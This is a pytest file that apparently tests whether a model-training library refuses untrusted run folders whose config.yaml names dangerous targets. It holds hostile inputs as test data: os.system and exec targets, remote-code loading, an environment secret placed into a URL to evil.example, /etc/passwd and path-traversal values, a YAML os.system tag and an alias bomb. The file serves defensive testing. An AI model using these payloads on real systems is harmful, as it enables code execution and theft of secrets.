"""Run folders of somebody else: whatever their config.yaml says, nothing of it is run, written, sent or fetched, by any command.

Each case is a finished run of plait with one thing changed. It is refused by reading, before a module that it names is imported.
"""

import copy
import json
import pkgutil
import re
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from omegaconf import OmegaConf

from lightning_modules.composing import stored
from lightning_modules.composing.stored import check_stored
from lightning_modules.folders.records import write_job
from lightning_modules.loops.curriculum import compose_job
from lightning_modules.loops.further import train_further
from lightning_modules.pretrained import open_features, save_pretrained
from lightning_modules.running.launch import adopt_run, launch
from lightning_modules.workbench import open_run
from plait.errors import PlaitError
from tests.malformed.test_configs import TINY

Change = Callable[[dict[str, Any], Path], Any]


@pytest.fixture(scope="module")
def sound() -> dict[str, Any]:
    """What a run of the demo's recipe stores."""
    return OmegaConf.to_container(compose_job("train", [*TINY, "base.vision_tokenizer=random", "paths.folder=outputs/run"]))


@pytest.fixture
def watched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that nobody may write to beside `run`; no process and no connection may be started, and `evil` not be imported."""

    def forbid(*args: Any, **kwargs: Any) -> None:
        raise AssertionError(f"a stored run reached out: {args[:3]}")

    (tmp_path / "evil.py").write_text("open(__file__ + '.ran', 'w').close()")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("SECRET", "the-secret")
    monkeypatch.delenv(stored.TRUSTED, raising=False)
    monkeypatch.setattr(socket.socket, "connect", forbid)
    monkeypatch.setattr(subprocess.Popen, "__init__", forbid)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def put(place: str, value: Any) -> Change:
    """Set a value, `{here}` in it is the watched folder."""

    def change(config: dict[str, Any], here: Path) -> None:
        *parents, key = place.split("/")
        node = config
        for parent in parents:
            node = node.setdefault(parent, {})
        node[key] = json.loads(json.dumps(value).replace("{here}", str(here)))

    return change


def target(_name: Any, **arguments: Any) -> dict[str, Any]:
    return {"_target_": _name, **arguments}


def refer_twice(config: dict[str, Any], here: Path) -> None:
    """A plain value of the trainer that is no plain value."""
    put("world", "${trainer.evil}")(config, here)
    put("trainer/evil", "${stage}")(config, here)


RELEASED = "plait.backbones.causal_lm.CausalLM.from_pretrained"
CHECKPOINTS = "lightning_modules.callbacks.last_checkpoint.LastCheckpoint"
HOSTILE: dict[str, Change] = {
    # code: of the machine, of a file beside the run, of plait itself
    "os": put("template", target("os.system", command="touch {here}/ran")),
    "builtin": put("world", target("builtins.exec", source="open('ran', 'w')")),
    "module-beside": put("model/backbone", target("evil.Run")),
    "torch-load": put("vision_tokenizer", target("torch.load", f="{here}/x.pt", weights_only=False)),
    "imported-there": put("world", target("plait.document.json.loads", s="{}")),
    "writer-of-plait": put("world", target("plait.atomic.write_json", path="{here}/ran", value=1)),
    "deleter-of-plait": put("world", target("plait.atomic.replace_folder", target="{here}/run", index="job.json")),
    "job-as-model": put("model", target("lightning_modules.running.launch.fit", folder="{here}/ran")),
    "launch-as-world": put("world", target("lightning_modules.running.launch.launch", config={"job": target("evil.run")})),
    "report-as-world": put("world", target("lightning_modules.jobs.page.write_report", runs=[], folder="{here}/ran")),
    "package-manager": put("world", target("lightning_modules.jobs.fetching.fetch", what="styles")),
    "pip-of-plait": put("world", target("plait.worlds.wordnet.archive.fetch", folder="{here}")),
    "mirror": put("world", target("lightning_modules.tracking.mirroring.fetch.fetch_run", path="a/b/c", place="{here}")),
    "callback-as-world": put("world", target(CHECKPOINTS, folder="{here}/ran")),
    "logger-as-world": put("world", target("lightning_modules.tracking.loggers.WandbRun", folder="{here}", project="p", offline=False)),
    "lightning-as-world": put("world", target("lightning.pytorch.callbacks.ModelCheckpoint", dirpath="{here}/ran")),
    "private": put("world", target("plait.atomic._take_place", beside="a", target="b")),
    "name-from-a-node": put("world", target("${objective.evil}")),
    "name-no-text": put("world", target(["os", "system"])),
    "model-unfinished": put("model/_partial_", True),
    "partial": put("world", target("plait.worlds.emoji.world.EmojiWorld", _partial_=True)),
    "positional": put("world", target("plait.worlds.emoji.world.EmojiWorld", _args_=[64])),
    "in-a-list": put("template/extra", [[target("os.system", command="touch {here}/ran")]]),
    # code by the back door of a library
    "remote-code": put("backbone", target(RELEASED, name_or_folder="{here}/run", trust_remote_code=True)),
    "remote-kernels": put("backbone", target(RELEASED, name_or_folder="{here}/run", attn_implementation="evil/kernel")),
    "cache-elsewhere": put("backbone", target(RELEASED, name_or_folder="{here}/run", cache_dir="ran")),
    # objects that train reached through a reference, methods handed over as functions
    "training-by-reference": put("world", "${callbacks.passport}"),
    "training-by-two": lambda config, here: refer_twice(config, here),
    "method-as-function": put("codes/folder", "${part_of:text_tokenizer.save}"),
    "base-of-a-job": put("base/job", "{here}"),
    # the environment and files, into what is sent or shown
    "environment": put("template/seed", "${oc.env:SECRET}"),
    "environment-nested": put("template/seed", "${${seed}:SECRET}"),
    "environment-in-a-name": put("name", "a ${oc.env:SECRET}"),
    "environment-to-a-server": put("world", target("lightning_modules.composing.user_data.open_collection", path="https://evil.example/${oc.env:SECRET}")),
    "decoded": put("template/seed", "${oc.decode:'1'}"),
    # places and names elsewhere
    "address": put("backbone", target(RELEASED, name_or_folder="https://evil.example/model")),
    "of-the-hub": put("backbone", target(RELEASED, name_or_folder="evil/model")),
    "data-of-the-hub": put(
        "world",
        target("lightning_modules.composing.user_data.open_collection", path="evil/data", cache="${paths.cache}/data"),
    ),
    "package-by-name": put("world", target("plait.backbones.gguf.find_gguf", package="evil.sub")),
    "keeps-subwords-elsewhere": put("text_tokenizer/folders", {"run": "{here}/ran", "model": None}),
    "name-of-the-prompt": put("backbone", target(RELEASED, name_or_folder="${prompt}")),
    "writes-elsewhere": put("world", target("lightning_modules.composing.user_data.open_collection", path="{here}", cache="{here}/ran")),
    "converts-elsewhere": put("backbone", target("plait.backbones.gguf.convert_gguf", file="x", folder="{here}/ran")),
    "absolute": put("template/options", "/etc/passwd"),
    "upwards": put("template/options", "a/../../b"),
    # out of all proportion
    "deep": put("template/extra", json.loads("[" * 60 + "]" * 60)),
    "long": put("template/extra", "x" * 100_000),
    "huge": put("backbone/vocab_size", 10**40),
    "escape-codes": put("name", "a\x1b[2J"),
    "no-world": put("world", None),
    "no-model": put("model", 3),
    "base-is-no-mapping": put("base", "everything"),
}  # fmt: skip
AS_TEXT = {
    "tag": "world: !!python/object/apply:os.system ['touch ran']",
    "tag-of-omegaconf": "world: !!python/object:pathlib.PosixPath ['/etc']",
    "bomb": "a: &a [x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a]\nworld: [*b, *b, *b]",
    "wide": f"world: {list(range(30_000))}",
    "deep-text": "world: " + "[" * 5_000,
    "large": "world: '" + "x" * 3_000_000 + "'",
}
TRAINED: dict[str, Change] = {
    "callback": put("callbacks/evil", target("lightning.pytorch.callbacks.ModelCheckpoint", dirpath="{here}/ran")),
    "writes-elsewhere": put("callbacks/checkpoint", target(CHECKPOINTS, folder="{here}/ran")),
    "job": put("job/_target_", "lightning_modules.jobs.page.write_report"),
    "plugin": put("trainer/plugins", target("lightning.pytorch.plugins.AsyncCheckpointIO")),
    "function": put("stage/optimizer", target("plait.atomic.write_json", _partial_=True, path="{here}/ran")),
}  # fmt: skip


def write_run(folder: Path, text: str) -> Path:
    folder.mkdir()
    (folder / "config.yaml").write_text(text)
    write_job(folder, {"state": "finished", "id": "0"})
    return folder


def change(sound: dict[str, Any], how: Change, here: Path) -> Path:
    config = copy.deepcopy(sound)
    how(config, here)
    return write_run(here / "run", json.dumps(config))  # JSON is YAML, and quotes what has to be quoted


def assert_untouched(here: Path) -> None:
    assert not {"evil"} & sys.modules.keys()
    found = {path.relative_to(here).as_posix() for path in here.rglob("*")}
    assert found == {"evil.py", "run", "run/config.yaml", "run/job.json"}, found


def adopt(run: Path) -> None:
    adopt_run(OmegaConf.create({"run": str(run)}))


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_a_hostile_run_is_run_written_or_sent(sound, watched, name) -> None:
    run = change(sound, HOSTILE[name], watched)
    with pytest.raises(PlaitError, match="Next: ") as refusal:
        adopt(run)
    assert "the-secret" not in str(refusal.value)
    assert "\x1b" not in str(refusal.value)
    assert_untouched(watched)


def test_what_hostile_runs_name_is_there(tmp_path: Path) -> None:
    """A name of plait that has moved would be refused for being nowhere, and the case would show nothing."""
    for how in HOSTILE.values():
        how(config := {}, tmp_path)
        for name in re.findall(r'"_target_": "((?:plait|lightning_modules)\.[^"$]+)"', json.dumps(config)):
            assert pkgutil.resolve_name(name)


@pytest.mark.parametrize("name", AS_TEXT)
def test_yaml_that_no_job_writes_is_refused_before_it_is_built(watched, name) -> None:
    run = write_run(watched / "run", f"base: {{}}\nmodel: x\n{AS_TEXT[name]}\n")
    with pytest.raises(PlaitError, match=r"config\.yaml is damaged: .*Next: "):
        adopt(run)
    assert_untouched(watched)


@pytest.mark.parametrize("name", TRAINED)
def test_a_hostile_run_is_not_trained_further(sound, watched, name) -> None:
    run = change(sound, TRAINED[name], watched)
    with pytest.raises(PlaitError, match=r"Next: |Expected"):
        train_further(run, 1, watched / "further")
    assert_untouched(watched)


WAYS: dict[str, Callable[[Path], Any]] = {
    "generate": lambda run: launch(compose_job("generate", [f"run={run}", "prompt=a", f"paths.folder={run}/out"])),
    "evaluate": lambda run: launch(compose_job("evaluate", [f"run={run}", f"paths.folder={run}/out"])),
    "export": lambda run: launch(compose_job("export", [f"run={run}", f"target={run}/out", f"paths.folder={run}/job"])),
    "desk": lambda run: open_run(run).draw("a red car"),
    "world": lambda run: open_run(run).world,
    "save_pretrained": lambda run: save_pretrained(run, run / "out"),
    "features": open_features,
    "further": lambda run: train_further(run, 1, run / "out"),
}
"""All that opens a run."""


@pytest.mark.parametrize("way", WAYS)
def test_every_way_to_open_a_run_asks_the_check(sound, watched, way) -> None:
    run = change(sound, put("model", target("lightning_modules.running.launch.launch", config={})), watched)
    with pytest.raises(
        PlaitError,
        match=r"model of its config has the _target_ 'lightning_modules.running.launch.launch', which a stored run may",
    ):
        WAYS[way](run)
    assert_untouched(watched)


def test_a_run_of_ones_own_is_opened_by_a_word_of_the_environment(sound, watched, monkeypatch) -> None:
    run = change(sound, put("template/seed", "${oc.env:SECRET}"), watched)
    with pytest.raises(PlaitError, match="PLAIT_TRUSTED_RUNS=<its folder>"):
        adopt(run)
    monkeypatch.setenv("PLAIT_TRUSTED_RUNS", f"elsewhere, {watched}")
    adopt(run)
    monkeypatch.setenv("PLAIT_TRUSTED_RUNS", f"{run}-2")
    with pytest.raises(PlaitError, match=r"oc\.env"):
        adopt(run)
    own = copy.deepcopy(sound)
    put("world", target("mylab.World", size=3))(own, watched)
    with pytest.raises(PlaitError, match="PLAIT_IMPORT_ROOTS=<name>"):
        check_stored(own, "run")
    monkeypatch.setenv("PLAIT_IMPORT_ROOTS", "mylab")
    check_stored(own, "run")


EXPERIMENTS = [
    path.relative_to("conf/experiment").with_suffix("").as_posix() for path in sorted(Path("conf/experiment").rglob("*.yaml"))
]
OPTIONS = [
    ["data=hub", "data.path=/data/rows"],
    ["data=styles"],
    ["backbone=smollm2", "adapter=lora"],
    ["backbone=text_base", "tiling=tiles", "trainer=ddp_cpu", "logger=online"],
    ["backbone=gemma_7b", "callbacks=ema", "optimizer=adamw", "paths.folder=/runs/1", "paths.cache=/cache"],
    ["backbone=saved", "+base.model=outputs/mine", "codes.folder=/codes", "scale=paper"],
]


@pytest.mark.parametrize("overrides", [[f"experiment={name}"] for name in EXPERIMENTS if "/study_" not in name]
                         + [["experiment=liquid/pretraining", *options] for options in OPTIONS], ids=" ".join)  # fmt: skip
def test_the_runs_of_all_recipes_are_opened_and_trained_further(monkeypatch, overrides) -> None:
    monkeypatch.setattr(stored, "is_cached", lambda name, kind: True)
    monkeypatch.setattr(stored, "is_at_hand", lambda: True)
    config = OmegaConf.to_container(compose_job("train", ["paths.folder=outputs/run", *overrides]))
    check_stored(config, "run")
    check_stored(config, "run", trains=True)
